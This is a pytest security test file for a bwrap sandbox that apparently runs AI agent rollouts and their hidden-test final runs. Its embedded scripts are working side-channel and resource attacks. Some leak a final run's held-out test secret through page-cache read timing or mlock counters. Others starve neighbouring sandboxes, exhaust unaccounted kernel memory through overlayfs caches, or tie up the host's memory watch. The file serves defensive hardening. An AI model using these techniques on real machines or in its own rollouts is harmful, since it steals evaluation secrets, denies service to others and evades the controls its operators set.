"""Round 31 attacks on the sandbox (open: each xfail strict until fixed).

Each runs real bwrap as root (a leased uid, cgroups, the workspace as an overlay or a copy)
and/or as a normal user (nobody, through ``run_as``).
"""

from __future__ import annotations

import os
import secrets
import sys
import textwrap
from pathlib import Path

import pytest

from tests.security.conftest import until_the_lease_held
from tests.security.test_attacks_round26_sandbox import _alone, _final_run_sending
from tests.security.test_attacks_round30_sandbox import _MLOCK_COUNTER

# r31s-1: a new instance of r28s-4's class (the page cache outlives a final run and carries its
# secret to a later sandbox), past the filter that closed it (agent/seccomp.py: ``preadv2``'s
# RWF_NOWAIT refused, ``cachestat`` refused, ``posix_fadvise``/``madvise`` dropping nothing): the
# time a read takes. The host's /usr is bound read-only into every sandbox, and most of its files
# are read by no one: their pages are not cached. A final run's tests (the rollout's fix_gcd,
# its workspace holding the secret: what the revealed hidden tests or held-out inputs are) read
# the first byte of 5 chosen files of /usr/share for each set bit of the secret; a sandbox run
# after it (another rollout of the same task, later in the batch) times its first read of each:
# ~5-20 us a cached file, ~100 us and more one read from the disk here. 128 bits in a second,
# read whole (5 files a bit, the majority taken). The lease (agent/final_run_lease.py) keeps
# sandboxes apart only while the final run lasts; the page cache stays. The control: no final
# run before, every file cold, the secret not read.
_CACHE_FILES = """
import os, sys, time
def files(n=640):
    out = []
    for root, dirs, names in os.walk("/usr/share"):
        dirs.sort()
        for name in sorted(names):
            p = os.path.join(root, name)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if st.st_size > 8192 and (st.st_mode & 0o170000) == 0o100000 and os.access(p, os.R_OK):
                out.append(p)
                if len(out) == n:
                    return out
    return out
"""
_CACHE_SENDER = _CACHE_FILES + textwrap.dedent(
    """
    secret = open("secret.txt", "rb").read()[:16]
    names = files()
    for i in range(128):
        if secret[i // 8] >> (i % 8) & 1:
            for k in range(5):
                with open(names[5 * i + k], "rb") as f:
                    f.read(1)
    """
)
_CACHE_RECEIVER = _CACHE_FILES + textwrap.dedent(
    """
    took = []
    for name in files():
        t = time.perf_counter_ns()
        with open(name, "rb") as f:
            f.read(1)
        took.append(time.perf_counter_ns() - t)
    bits = [sum(took[5 * i + k] < 40_000 for k in range(5)) >= 3 for i in range(128)]
    print("READ", bytes(sum(bits[8 * j + b] << b for b in range(8)) for j in range(16)).hex())
    """
)


def _cold(names: list[str]) -> None:
    """Each of ``names`` out of the page cache (the host's own doing, as a machine that has not
    read them lately has them)."""
    for name in names:
        fd = os.open(name, os.O_RDONLY)
        try:
            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
        finally:
            os.close(fd)


def _read_after_a_final_run(tmp_path: Path, sender: bool) -> tuple[str, str]:
    """A secret (hex of its text) and what a root sandbox running ``_CACHE_RECEIVER`` printed,
    run after a rollout's real final run (mini-bugs' fix_gcd) whose tests ran ``_CACHE_SENDER``
    over that secret in its workspace (``sender``; else no final run before)."""
    from agent.sandbox import run_command_full

    scope: dict = {}
    exec(_CACHE_FILES, scope)  # the same files, as the host names them (the sandbox's /usr is the host's)
    secret = secrets.token_hex(8)
    receiver = tmp_path / "receiver"
    receiver.mkdir(parents=True)
    (receiver / "run.py").write_text(_CACHE_RECEIVER)
    with _alone("page-cache-timing"):
        _cold(scope["files"]())
        if sender:
            _final_run_sending(tmp_path / "sender", _CACHE_SENDER, secret)
        run = run_command_full([sys.executable, "run.py"], receiver, timeout_s=60, sandbox="bwrap")
    assert "READ" in run.output, run.output[-500:]  # the receiver ran to its end
    return secret.encode().hex(), run.output


def test_r31s_1_control_no_final_run_before_leaves_no_secret(tmp_path):
    secret, said = _read_after_a_final_run(tmp_path, False)
    assert secret not in said


@pytest.mark.xfail(
    strict=True, reason="open: r31s-1 a later sandbox reads a final run's secret by timing reads of the page cache"
)
def test_r31s_1_a_later_sandbox_never_reads_a_final_runs_secret_by_read_timing(tmp_path):
    read = False
    for attempt in range(3):  # (under load a read may be slowed past the mark, or a page evicted: a spoiled try)
        secret, said = _read_after_a_final_run(tmp_path / f"try{attempt}", True)
        if secret in said:
            read = True
            break
    assert not read, "a sandbox after the final run read its secret whole"


# r31s-2: one rollout's sandbox holds every other rollout's sandbox for as long as it runs, through
# the final run's lease (agent/final_run_lease.py). A final run waiting for the machine holds the
# lease's gate (so that sandboxes starting one after another never starve it), and it waits for
# every sandbox running: a rollout whose tool run takes its whole timeout (tests that sleep, a
# loop; ~60 s a task) makes a neighbour's final run wait that long, and meanwhile every third
# rollout's tool run waits at the gate too, its wall clock (``RolloutConfig.timeout_s``) running.
# Here: a hostile run of 16 s; an honest neighbour's final run due 1 s into it (held for no time
# once it has the machine); a third rollout's honest run (a Python that prints and exits) started
# while that final run waits: it returns only after the hostile run has ended, ~15 s later, where
# alone beside the hostile run (the control: no final run due) it takes well under a second.
_HOSTILE_RUN = textwrap.dedent(
    """
    import os, sys, time
    open(os.path.join(sys.argv[1], "started"), "w").close()
    end = time.monotonic() + 16
    while time.monotonic() < end and not os.path.exists(os.path.join(sys.argv[1], "over")):
        time.sleep(0.01)  # (the host's word once it has timed the honest run: a run of 16 s otherwise)
    """
)


def _honest_run_waited(tmp_path: Path, final_run_due: bool) -> float:
    """Seconds a third rollout's honest sandbox run took (from its call to its return), started
    while a hostile neighbour's 16 s run runs and (``final_run_due``) another's final run waits."""
    import fcntl
    import threading
    import time

    from agent import final_run_lease
    from agent.sandbox import run_command_full

    hostile, honest, said = tmp_path / "hostile", tmp_path / "honest", tmp_path / "said"
    for d in (hostile, honest, said):
        d.mkdir()
    said.chmod(0o777)
    (hostile / "run.py").write_text(_HOSTILE_RUN)
    threads = [
        threading.Thread(
            target=run_command_full,
            args=([sys.executable, "run.py", str(said)], hostile),
            kwargs={"timeout_s": 30, "sandbox": "bwrap", "extra_binds": (said,)},
        )
    ]
    threads[0].start()
    deadline = time.monotonic() + 20
    while not (said / "started").exists():
        assert time.monotonic() < deadline, "the hostile run never started"
        time.sleep(0.01)
    if final_run_due:

        def final_run() -> None:
            with final_run_lease.final_run_alone():
                pass

        threads.append(threading.Thread(target=final_run))
        threads[-1].start()
        until_the_lease_held(
            "final-run.gate", fcntl.LOCK_EX, threads[-1].is_alive
        )  # the final run waiting holds the gate
    start = time.monotonic()
    run = run_command_full([sys.executable, "-c", "print('ok')"], honest, timeout_s=30, sandbox="bwrap")
    took = time.monotonic() - start
    (said / "over").touch()
    assert "ok" in run.output, run.output[-300:]
    for t in threads:
        t.join()
    return took


def test_r31s_2_control_a_hostile_run_alone_holds_no_neighbour(tmp_path):
    assert _honest_run_waited(tmp_path, False) < 10


def test_r31s_2_a_rollouts_long_run_never_holds_a_neighbours_run(tmp_path):
    assert _honest_run_waited(tmp_path, True) < 10, "a neighbour's run waited for the hostile run's end"


# r31s-4: r22s-2's class (kernel memory charged to no cgroup: record locks; r29s-5, r30s-3)
# through the new overlay workspace (agent/overlay_mount.py, a root run's). Overlayfs keeps, for each open directory that both layers hold (the workspace's root, once the
# run wrote in it), a cache of every name of the merged directory (``ovl_cache_entry``, kmalloc'd
# without __GFP_ACCOUNT: charged to no cgroup), made at its first read and kept while the
# descriptor stays open. A write in the directory makes the next reader's cache a new one; the
# old stays with its readers. So a sandbox writes 20,000 names of 205 characters in its
# workspace (its own, within its cap), then 40 times opens the directory, reads one entry and
# writes one more name: 40 caches of 20,000 names, ~390 MB of unreclaimable kernel memory in a
# few seconds (100 took ~975 MB in 6 s, the run inside a 400 MB container whose cgroup peaked at
# 121 MB); NOFILE (1,024) a process and 256 processes bound it at tens of GB. The control: the
# same 40 reads, no write between them (one cache, shared).
_MERGED_DIR_CACHES = textwrap.dedent(
    """
    import os, time
    for i in range(20000):
        os.close(os.open("x" * 200 + "%05d" % i, os.O_CREAT | os.O_WRONLY, 0o600))
    held = []
    for k in range(40):
        fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        entries = os.scandir(fd)  # (a copy of fd: the same open directory, its cache)
        next(entries)
        entries.close()
        held.append(fd)
        if WRITE_BETWEEN:
            os.close(os.open("v%05d" % k, os.O_CREAT | os.O_WRONLY, 0o600))
    print("HELD", flush=True)
    time.sleep(2)  # (the host samples the machine's count meanwhile)
    """
)


def _unreclaimable_kernel_memory() -> int:
    """The machine's unreclaimable slab, in bytes (/proc/meminfo ``SUnreclaim``)."""
    for line in Path("/proc/meminfo").read_text().splitlines():
        if line.startswith("SUnreclaim:"):
            return int(line.split()[1]) * 1024
    return 0


def _merged_caches_held(tmp_path: Path, write_between: bool) -> int:
    """The bytes of unreclaimable kernel memory the machine gained, at its peak, while a root
    sandbox (its workspace an overlay) ran ``_MERGED_DIR_CACHES``."""
    import threading

    from agent.sandbox import run_command_full

    box = tmp_path / "box"
    box.mkdir()
    (box / "run.py").write_text(_MERGED_DIR_CACHES.replace("WRITE_BETWEEN", str(write_between)))
    said: list = []
    run_thread = threading.Thread(
        target=lambda: said.append(run_command_full([sys.executable, "run.py"], box, timeout_s=60, sandbox="bwrap"))
    )
    with _alone("unreclaimable-kernel-memory"):
        before = peak = _unreclaimable_kernel_memory()
        run_thread.start()
        while run_thread.is_alive():
            peak = max(peak, _unreclaimable_kernel_memory())
            run_thread.join(0.02)
    assert said and "HELD" in said[0].output, said[0].output[-300:] if said else "no run"
    return peak - before


def test_r31s_4_control_one_cache_shared_holds_little(tmp_path):
    assert _merged_caches_held(tmp_path, False) < 64 * 2**20


@pytest.mark.xfail(
    strict=True, reason="open: r31s-4 overlay directory caches hold kernel memory no memory cgroup is charged"
)
def test_r31s_4_a_root_sandbox_holds_no_overlay_caches_outside_its_cgroup(tmp_path):
    outside = _merged_caches_held(tmp_path, True)
    assert outside < 64 * 2**20, (
        f"a root sandbox held {outside >> 20} MB of overlay directory caches outside every cgroup"
    )


# r31s-5: r30s-4's channel (two sandboxes at once, through the machine's counters) past the
# final run's lease (agent/final_run_lease.py), between repo-agent as root and repo-agent as a
# normal user on one machine (as this one runs both). The lease is per user: a root final run
# holds back root's sandboxes only, and a normal user's sandbox running meanwhile reads its
# secret as r30s-4's neighbour did (mlock/munlock bursts moving /proc/vmstat's
# ``unevictable_pgs_mlocked``, the machine's). The suites are the same for both users, so what a
# root final run of fix_gcd holds (its revealed tests, its held-out inputs) reaches a normal
# user's rollout of fix_gcd. Root's final run here holds its lease at its real place (not the
# test process's own, tests/conftest.py). The control: no final run meanwhile.
def _read_by_another_users_sandbox(tmp_path: Path, user_dir: Path, sender: bool, attempt: int = 0) -> tuple[str, str]:
    """A secret (hex of its text) and what a normal user's sandbox (nobody's repo-agent) running
    r30s-4's receiver printed, with root's real final run of mini-bugs' fix_gcd meanwhile
    (``sender``), whose tests run r30s-4's sender over that secret."""
    import threading
    import time

    from agent import final_run_lease
    from tests.security.conftest import give_to_nobody, run_as
    from tests.security.test_attacks_round11 import _in_sandbox
    from tests.security.test_attacks_round30_sandbox import _MLOCK_RECEIVER, _MLOCK_SENDER

    secret = secrets.token_hex(16)
    ws, word = user_dir / f"ws{attempt}", user_dir / f"host-says{attempt}"
    ws.mkdir()
    word.mkdir()  # the host's word to the receiver (bound read-only): the sender's run is over
    receiver = _MLOCK_RECEIVER.replace("sys.argv[1]", repr(str(word))).replace("+ 30", "+ 20")
    (ws / "run.py").write_text(receiver)
    give_to_nobody(user_dir)
    said: list = []
    receiving = _in_sandbox(ws, "run.py", ro_binds=(word,))
    receive = threading.Thread(
        target=lambda: said.append(run_as("nobody", [sys.executable, "-c", receiving], timeout=120))
    )
    with _alone("lock-channel"):
        receive.start()
        if sender:
            deadline = time.monotonic() + 60
            while not _bwrap_naming(ws):  # the receiver's sandbox is starting
                assert time.monotonic() < deadline and receive.is_alive(), "the receiver never started"
                time.sleep(0.01)
            before = os.environ.pop(final_run_lease.PLACE_ENV, None)
            try:
                _final_run_sending(tmp_path / f"sender{attempt}", _MLOCK_SENDER, secret)
            finally:
                if before is not None:
                    os.environ[final_run_lease.PLACE_ENV] = before
        (word / "sender-over").touch()
        receive.join()
    out = said[0].stdout
    assert "READ" in out, (out[-300:], said[0].stderr[-300:])  # the receiver ran to its end
    return secret.encode().hex(), out


def _bwrap_naming(path: Path) -> bool:
    """Whether a bwrap process names ``path`` in its command line."""
    for pid in os.listdir("/proc"):
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if argv[0].endswith(b"bwrap") and any(str(path).encode() in a for a in argv):
            return True
    return False


def test_r31s_5_control_a_users_sandbox_alone_reads_no_secret(tmp_path, user_dir):
    secret, said = _read_by_another_users_sandbox(tmp_path, user_dir, False)
    assert secret not in said


def test_r31s_5_another_users_sandbox_never_reads_a_final_runs_secret(tmp_path, user_dir):
    read = False
    for attempt in range(3):  # (a busy machine may start the two seconds apart: past the channel's timing)
        secret, said = _read_by_another_users_sandbox(tmp_path, user_dir, True, attempt)
        if secret in said:
            read = True
            break
    assert not read, "a normal user's sandbox read root's final run's secret whole"


# r31s-6: one rollout's final run holds every sandbox of the machine (its user's) for as long as
# its code makes its judgement last: the final run's lease (agent/final_run_lease.py) is held for
# the whole judgement, and the differential allows the rollout's calls 2 s each without a record
# (``PER_CALL_S``), its process ``10 + timeout + 2 s x 2 x (inputs + targets)`` in all
# (agent/differential.py ``judge``): a fix that answers each call in 1.9 s holds the machine for
# tens of minutes (672 calls a final run, round 30's bench: ~21 min), where before the lease only
# its own judgement was slow. Every other rollout's tool run and final run waits meanwhile, their
# wall clocks running. Here a gcd answering its first 15 calls of the differential's process in
# 1.8 s each (the tests' process at once) holds a neighbour's honest run (a Python that prints)
# for ~30 s; the control (the same gcd answering at once) ~10 s.
_SLOW_CALLS_GCD = textwrap.dedent(
    """
    import sys, time
    _calls = [0]


    def gcd(a, b):
        if "pytest" not in sys.modules and _calls[0] < SLOW_CALLS:  # the differential's process
            _calls[0] += 1
            time.sleep(1.8)
        while b:
            a, b = b, a % b
        return abs(a)
    """
)


def _neighbour_held_by_a_final_run(tmp_path: Path, slow_calls: int) -> float:
    """Seconds a neighbour's honest sandbox run took (from its call to its return), started once
    a rollout's real final run (mini-bugs' fix_gcd, ``_SLOW_CALLS_GCD``) holds the machine."""
    import fcntl
    import threading
    import time

    from agent.final_verdict import final_test_run
    from agent.sandbox import run_command_full
    from agent.suites.loading import load_suite
    from agent.workspace import Workspace

    suite = load_suite("mini-bugs")
    honest = tmp_path / "honest"
    honest.mkdir()
    judged: list = []

    def final_run() -> None:
        with Workspace.create(suite, suite.task("fix_gcd"), tmp_path / "judged") as ws:
            ws.resolve("gcd.py").write_text(_SLOW_CALLS_GCD.replace("SLOW_CALLS", str(slow_calls)))
            judged.append(final_test_run(ws))

    judging = threading.Thread(target=final_run)
    judging.start()
    until_the_lease_held("final-run.lease", fcntl.LOCK_SH, judging.is_alive)  # the final run holds the machine
    start = time.monotonic()
    run = run_command_full([sys.executable, "-c", "print('ok')"], honest, timeout_s=30, sandbox="bwrap")
    took = time.monotonic() - start
    judging.join()
    assert "ok" in run.output, run.output[-300:]
    assert judged and judged[0][0].passed, judged  # (an honest gcd, slow or not: judged PASS)
    return took


def test_r31s_6_control_a_quick_final_run_holds_a_neighbour_briefly(tmp_path):
    assert _neighbour_held_by_a_final_run(tmp_path, 0) < 20


@pytest.mark.xfail(
    strict=True, reason="open: r31s-6 a final run holds every sandbox of the machine as long as its calls take"
)
def test_r31s_6_a_slow_final_run_never_holds_a_neighbour_for_its_whole_length(tmp_path):
    took = _neighbour_held_by_a_final_run(tmp_path, 15)
    assert took < 20, f"a neighbour's run waited {took:.0f} s for another rollout's final run"


# r31s-7: r30s-4's counter past the final run's lease, across time instead of at once. The
# lease keeps a sandbox from running *while* a final run runs, but /proc/vmstat's
# ``unevictable_pgs_mlocked`` is a cumulative count (every page any process of the machine ever
# locked; it moved by ~1 every 3 s here otherwise): a sandbox of another rollout reads it before
# the final run and again after it (two tool runs: its workspace keeps the first figure), and
# the difference is what the final run's code locked. 16 bits a final run (each value a burst of
# 1 + value lock/unlock pairs of 16 pages, under a second; the machine's own few pages rounded
# away), read whole. The control: no final run between the two reads.
_MLOCK_COUNT_SENDER = _MLOCK_COUNTER + textwrap.dedent(
    """
    libc = ctypes.CDLL(None, use_errno=True)
    pages = mmap.mmap(-1, 65536)  # 16 pages: RLIMIT_MEMLOCK's 64 kB
    at = ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(pages)))
    for _ in range(1 + int(open("secret.txt").read()[:4], 16)):
        libc.mlock(at, 65536)
        libc.munlock(at, 65536)
    """
)
_MLOCK_COUNT_READER = _MLOCK_COUNTER + textwrap.dedent(
    """
    if os.path.exists("before"):
        moved = counter() - int(open("before").read())
        print("READ %04x" % ((round(moved / 16) - 1) & 0xFFFF))
    else:
        open("before", "w").write(str(counter()))
        print("NOTED")
    """
)


def _read_across_a_final_run(tmp_path: Path, sender: bool) -> tuple[str, str]:
    """A 16-bit secret (4 hex digits) and what a root sandbox running ``_MLOCK_COUNT_READER``
    printed the second time, run once before and once after a rollout's real final run
    (mini-bugs' fix_gcd) whose tests ran ``_MLOCK_COUNT_SENDER`` over it (``sender``; else
    nothing between the two)."""
    from agent.sandbox import run_command_full

    secret = secrets.token_hex(2)
    reader = tmp_path / "reader"
    reader.mkdir(parents=True)
    (reader / "run.py").write_text(_MLOCK_COUNT_READER)
    with _alone("lock-channel"):  # (r30s-4's tests lock pages too)
        first = run_command_full([sys.executable, "run.py"], reader, timeout_s=60, sandbox="bwrap")
        assert "NOTED" in first.output, first.output[-300:]
        if sender:
            _final_run_sending(tmp_path / "sender", _MLOCK_COUNT_SENDER, secret)
        second = run_command_full([sys.executable, "run.py"], reader, timeout_s=60, sandbox="bwrap")
    assert "READ" in second.output, second.output[-300:]
    return secret, second.output


def test_r31s_7_control_nothing_between_the_reads_tells_no_secret(tmp_path):
    secret, said = _read_across_a_final_run(tmp_path, False)
    assert f"READ {secret}" not in said


@pytest.mark.xfail(
    strict=True, reason="open: r31s-7 a sandbox before and one after a final run read its secret off a cumulative count"
)
def test_r31s_7_sandboxes_around_a_final_run_never_read_its_secret(tmp_path):
    read = False
    for attempt in range(3):  # (another program locking pages meanwhile spoils a try)
        secret, said = _read_across_a_final_run(tmp_path / f"try{attempt}", True)
        if f"READ {secret}" in said:
            read = True
            break
    assert not read, "the final run's secret read across it"


# r31s-9: a normal user's sandbox keeps repo-agent's part watch (agent/memory_part.py) looking
# at it without pause, in repo-agent's own processes, outside the sandbox's CPU share. The watch
# looks every 0.1 s while less than a part is left under the enclosing limit (``FULL_LOOK_S``),
# each look a fork of repo-agent walking every descriptor of every process of the sandbox
# (``pidfd_getfd`` and ``fstat`` each); and the page cache of host files the sandbox reads is
# charged to the enclosing cgroup but counted by no look. So the tests read ~300 MB of host files
# no one had cached (a 400 MB container: the room falls under the part, 176 MB, and stays there)
# while 60 processes hold 1,000 descriptors each: the watch then looked ~70 times in a 20 s run,
# ~17 s of looking (a core of the 2-core machine, the reference run's beside it), with no OOM
# kill to judge and nothing past the part. The control: the same descriptors, no file read.
_WATCHED_WITHOUT_PAUSE = textwrap.dedent(
    """
    import os, time
    read = 0
    for root, dirs, names in os.walk("/usr/lib"):
        dirs.sort()
        for name in sorted(names):
            if not READ_FILES or read > 300 * 2**20:
                break
            try:
                with open(os.path.join(root, name), "rb") as f:
                    while chunk := f.read(1 << 20):
                        read += len(chunk)
            except OSError:
                pass
    null = os.open("/dev/null", os.O_RDONLY)
    for _ in range(60):
        if os.fork() == 0:
            for k in range(3, 1000):
                os.dup2(null, k)
            time.sleep(25)
            os._exit(0)
    time.sleep(20)
    """
)
# repo-agent (nobody's) with its watch's looks timed: how long they took in all, said at its exit.
_LOOKS_TIMED = (
    "import agent.memory_part as mp, time, atexit\n"
    "_look, _took = mp.sandbox_held_apart, [0.0]\n"
    "def _timed(*a, **k):\n"
    "    t = time.monotonic()\n"
    "    try:\n"
    "        return _look(*a, **k)\n"
    "    finally:\n"
    "        _took[0] += time.monotonic() - t\n"
    "mp.sandbox_held_apart = _timed\n"
    "atexit.register(lambda: print('LOOKED', round(_took[0], 1), flush=True))"
)


def _looked_for(user_dir: Path, read_files: bool) -> float:
    """Seconds repo-agent's part watch spent looking at a normal user's sandbox running
    ``_WATCHED_WITHOUT_PAUSE`` in a 400 MB container (the host files it reads out of the page
    cache first: files no program of the machine read lately)."""
    from tests.security.test_attacks_round11 import _as_a_user_in_400_mb

    cold = 0
    for root, dirs, names in os.walk("/usr/lib"):  # (more than the tests read, in their order)
        dirs.sort()
        for name in sorted(names):
            try:
                fd = os.open(os.path.join(root, name), os.O_RDONLY | os.O_NOFOLLOW)
            except OSError:
                continue
            try:
                os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_DONTNEED)
                cold += os.fstat(fd).st_size
            finally:
                os.close(fd)
        if cold > 400 * 2**20:
            break
    script = _WATCHED_WITHOUT_PAUSE.replace("READ_FILES", str(read_files))
    said = _as_a_user_in_400_mb(user_dir, "watched.py", script, setup=_LOOKS_TIMED)
    assert said and said[-2].startswith("RETURNED"), said[-5:]
    return float(said[-1].split()[1])


def test_r31s_9_control_a_sandbox_within_the_room_is_not_looked_at(user_dir):
    assert _looked_for(user_dir, False) < 5


@pytest.mark.xfail(
    strict=True, reason="open: r31s-9 page cache the watch never counts keeps it looking, repo-agent's CPU"
)
def test_r31s_9_a_sandbox_never_keeps_the_watch_looking(user_dir):
    took = _looked_for(user_dir, True)
    assert took < 5, f"repo-agent's part watch looked at the sandbox for {took} s of a 20 s run"
